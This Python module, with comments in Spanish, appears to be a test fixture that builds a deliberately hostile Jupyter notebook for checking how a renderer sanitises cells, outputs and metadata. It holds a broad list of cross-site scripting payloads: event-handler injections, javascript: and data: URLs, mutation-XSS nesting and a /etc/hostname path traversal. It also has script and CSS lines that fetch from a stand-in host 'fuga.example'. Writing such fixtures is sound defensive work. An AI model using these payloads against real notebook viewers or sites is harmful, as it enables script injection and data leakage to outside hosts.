"""Cuadernos de quien no quiere bien a quien los abra: lo que se ejecuta, lo que sale a la red y lo que pesa de más."""

from __future__ import annotations

import base64
import json
from collections.abc import Sequence
from typing import Any

DE_FUERA = "http://fuga.example/"
CORRE = "document.title='CORRE'"
GUION = f"<script>{CORRE};fetch('{DE_FUERA}js')</script>"
PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
        "0000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
    )
).decode()
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CORRE}" width="80" height="30">'
    f'<image href="{DE_FUERA}svg"/><script>{CORRE}</script><rect width="80" height="30" fill="green"/></svg>'
)
# HTML que se ejecuta, pide algo o se sale de donde está; vale en una celda de texto y en una salida.
MARCADOS = (
    GUION,
    f'<img src=x onerror="{CORRE}">',
    f"![imagen]({DE_FUERA}md.png)",
    f'<svg onload="{CORRE}"><script>{CORRE}</script></svg>',
    f"[enlace](javascript:{CORRE})",
    f'<a href=" java&#10;script:{CORRE}">enlace</a>',
    f"[enlace](data:text/html,<script>{CORRE}</script>)",
    f"<style>body {{ display: none; background: url({DE_FUERA}css) }} @import '{DE_FUERA}importado';</style>",
    f'<div style="position: fixed; background: url({DE_FUERA}d)" id="e05" class="dicho bien parte">✔ 10 de 10</div>',
    f"<iframe src='{DE_FUERA}marco'></iframe><object data='{DE_FUERA}o'></object><embed src='{DE_FUERA}e'>",
    f'<iframe srcdoc="{GUION}"></iframe>',
    f'<form action="{DE_FUERA}f"><input autofocus onfocus="{CORRE}"><button formaction="javascript:{CORRE}">x</form>',
    f'<marquee onstart="{CORRE}">m</marquee>',
    f"<base href='{DE_FUERA}'><meta http-equiv='refresh' content='0;url={DE_FUERA}meta'>",
    f"<link rel=stylesheet href='{DE_FUERA}hoja'><link rel='dns-prefetch preconnect' href='//fuga.example'>",
    f"</div></article></section></main></body></html>{GUION}",
    f"<video src='{DE_FUERA}v' poster='{DE_FUERA}p' autoplay></video><audio src='{DE_FUERA}a' autoplay></audio>",
    f"<picture><source srcset='{DE_FUERA}s'><img srcset='{DE_FUERA}s2' src='{DE_FUERA}s3'></picture>",
    f'<details open ontoggle="{CORRE}"><summary>s</summary>x</details>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CORRE}&gt;'>",
    f"<table background='{DE_FUERA}t'><tr><td background='{DE_FUERA}td'>t</table><image href='{DE_FUERA}im'>",
    "![de esta máquina](../../../../etc/hostname) ![](attachment:falta.png)",
    "![pegada](attachment:a.png)",
    f"![pegada](attachment:a.html) <img src='data:text/html,{GUION}'>",
    f'<noscript><p title="</noscript><img src=x onerror={CORRE}>">',
    f"<xmp>{GUION}</xmp><plaintext>{GUION}",
    "<!-- sin cerrar",
    f"$$\\href{{javascript:{CORRE}}}{{x}}$$ $\\text{{{GUION}}}$",
    f"```html\n{GUION}\n```",
)


def dato(tipo: str, que: Any) -> dict[str, Any]:
    metadatos = {tipo: {"isolated": True, "alt": f'"{GUION}', "width": f'1" onload="{CORRE}'}}
    return {"output_type": "display_data", "metadata": metadatos, "data": {tipo: que}}


SALIDAS: tuple[dict[str, Any], ...] = (
    *(dato("text/html", marcado) for marcado in MARCADOS),
    dato("image/svg+xml", SVG),
    dato("image/png", PNG),
    dato("image/png", f'"onerror="{CORRE}'),
    dato("application/javascript", CORRE),
    dato("application/vnd.jupyter.widget-view+json", {"model_id": "x"}),
    dato("text/latex", GUION),
    dato("text/markdown", GUION),
    dato("text/plain", GUION),
    {"output_type": "stream", "name": "stdout", "text": f"{GUION}\x1b[31mrojo\x1b[0m\x1b[38;2;1;2;3mRGB"},
    {"output_type": "error", "ename": GUION, "evalue": GUION, "traceback": [GUION, "\x1b[1;31mError\x1b[0m"]},
)


def celda(fuente: str, clase: str = "code", **otros: Any) -> dict[str, Any]:
    extra = {"outputs": [], "execution_count": None} if clase == "code" else {}
    return {"cell_type": clase, "metadata": {}, "source": fuente, **extra, **otros}


def cuaderno(*celdas: dict[str, Any], **metadatos: Any) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadatos, "cells": celdas}).encode()


def hostil(codigo: Sequence[str]) -> bytes:
    """Un cuaderno con todo ello, y al final estas celdas de código."""
    pegadas = {"a.png": {"image/png": PNG}, "a.html": {"text/html": GUION}}
    textos = [celda(marcado, "markdown", attachments=pegadas) for marcado in MARCADOS]
    salidas = [celda(f"'''{GUION}'''", outputs=[salida], metadata={"tags": [f'"{GUION}']}) for salida in SALIDAS]
    raras = [celda(GUION, "raw", metadata={"raw_mimetype": "text/html"}), celda("x", GUION)]
    lenguaje = {"pygments_lexer": f'"{GUION}', "name": GUION}
    controles = {"application/vnd.jupyter.widget-state+json": {"x": GUION}}
    return cuaderno(*textos, *salidas, *raras, *map(celda, codigo), language_info=lenguaje, widgets=controles)
